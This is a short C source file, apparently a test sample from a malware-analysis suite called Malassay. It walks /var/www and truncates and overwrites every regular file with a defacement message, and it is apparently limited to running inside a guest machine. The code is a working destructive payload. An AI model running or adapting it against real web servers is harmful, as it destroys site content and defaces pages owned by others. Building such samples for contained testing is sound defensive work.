/*
 * Overwrites every file below /var/www, where the web service has its page: a defacement.
 *
 * Exits 0 when there was a page to change, otherwise 1. The service goes on and serves the new
 * page.
 */
#define _GNU_SOURCE
#include "guest.h"

#include <fcntl.h>
#include <ftw.h>

static const char page[] = "<h1>This page was changed by a sample of Malassay.</h1>\n";
static int changed;

static int change(const char *path, const struct stat *status, int type, struct FTW *place)
{
    int file;

    (void)status;
    (void)place;
    if (type != FTW_F)
        return 0;
    file = open(path, O_WRONLY | O_TRUNC | O_NOFOLLOW);
    if (file < 0)
        return 0;
    if (write(file, page, sizeof page - 1) == sizeof page - 1)
        changed++;
    close(file);
    return 0;
}

int main(void)
{
    only_in_a_guest();
    nftw("/var/www", change, 16, FTW_PHYS | FTW_MOUNT);
    return changed == 0;
}
